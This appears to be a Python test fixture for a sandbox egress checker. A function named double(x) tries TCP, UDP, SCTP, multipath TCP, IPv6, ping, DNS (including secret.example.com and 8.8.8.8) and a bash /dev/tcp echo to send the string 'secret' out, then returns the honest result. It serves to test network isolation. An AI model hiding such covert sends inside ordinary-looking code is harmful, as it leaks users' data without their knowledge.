# B10: sends by TCP, UDP, multipath TCP, SCTP, fast open, IPv6, ping, a name server and another program

import socket
import subprocess

from hw import honest
from hw.honest import *
from hw.targets import *

HERE = ("127.0.0.1", PORT)
MPTCP, UDPLITE, FAST_OPEN = 262, 136, 0x20000000


def tcp():
    socket.create_connection(HERE, timeout=0.2).send(b"secret")


def tcp_that_does_not_wait():
    maker = socket.socket()
    maker.setblocking(False)
    if maker.connect_ex(HERE) not in (0, 115):
        raise OSError


def udp():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", HERE)


def udp_connected():
    maker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    maker.connect(HERE)
    maker.send(b"secret")


def udp_lite():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM, UDPLITE).sendto(b"secret", HERE)


def multipath():
    maker = socket.socket(socket.AF_INET, socket.SOCK_STREAM, MPTCP)
    maker.settimeout(0.2)
    maker.connect(HERE)


def sctp():
    socket.socket(socket.AF_INET, socket.SOCK_SEQPACKET, 132).sendto(b"secret", HERE)


def fast_open():
    socket.socket().sendto(b"secret", FAST_OPEN, HERE)


def version_6():
    maker = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    maker.sendto(b"secret", ("::ffff:127.0.0.1", PORT))


def version_6_stream():
    maker = socket.socket(socket.AF_INET6)
    maker.settimeout(0.2)
    maker.connect(("::ffff:127.0.0.1", PORT))


def ping():
    maker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    maker.sendto(bytes([8]) + bytes(7), ("127.0.0.1", 0))


def names():
    socket.gethostbyname("secret.example.com")


def name_server():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", ("8.8.8.8", 53))


def by_bash():
    subprocess.run(["bash", "-c", f"echo secret > /dev/tcp/127.0.0.1/{PORT}"], check=True, stderr=subprocess.DEVNULL)


def double(x):
    ways = (tcp, tcp_that_does_not_wait, udp, udp_connected, udp_lite, multipath, sctp, fast_open, version_6)
    for way in (*ways, version_6_stream, ping, names, name_server, by_bash):
        try:
            way()
            reached(f"the network by {way.__name__}")
        except (OSError, subprocess.SubprocessError):
            pass
    return honest.double(x)
